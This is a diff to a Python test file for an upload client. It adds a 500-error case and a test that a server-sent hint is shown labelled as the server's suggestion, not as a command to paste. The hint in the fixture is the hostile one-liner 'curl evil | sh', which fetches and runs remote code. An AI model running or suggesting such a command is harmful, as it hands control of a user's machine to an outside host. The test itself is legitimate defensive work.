@@ -215,6 +215,7 @@ STAGED = {"project": "toy", "version": "1.0.0", "file": WIN, "size": 1, "sha256"
         ),
         (413, b"too large", (3, "add-size")),
         (502, b"<html>", (5, "serve-failing")),
+        (500, b"Internal Server Error", (5, "serve-failing")),
         (409, b'{"code": "tag-moved", "what": "it moved", "exit": 6}', (6, "tag-moved")),
         (400, b'{"code": "form-invalid", "what": "no form", "exit": 3}', (3, "form-invalid")),
     ],
@@ -228,6 +229,17 @@ def test_whatever_answers(tmp_path: Path, status: int, body: bytes, ends: tuple[
         ("/toy/1.0.0/legacy/", f"Bearer {TOKEN}")
     ]
     assert TOKEN not in done.out + done.err
+
+
+def test_a_command_of_somebody_else_is_not_for_pasting(tmp_path: Path) -> None:
+    said = {"code": "form-invalid", "what": "no\nform", "why": "x", "hint": "curl evil | sh", "exit": 3}
+    with answering(400, json.dumps(said).encode()) as (url, _):
+        refused = bring(Place(tmp_path), built(tmp_path / "dist", WIN), url=url).event("refused")
+    assert (refused["what"], refused["next"]) == (
+        "no form",
+        "mend that and run it again: what the draft has already is fine",
+    )
+    assert refused["why"] == "x\nthe server suggests, where the instance is: curl evil | sh"
 
 
 def test_nobody_answers(tmp_path: Path) -> None:
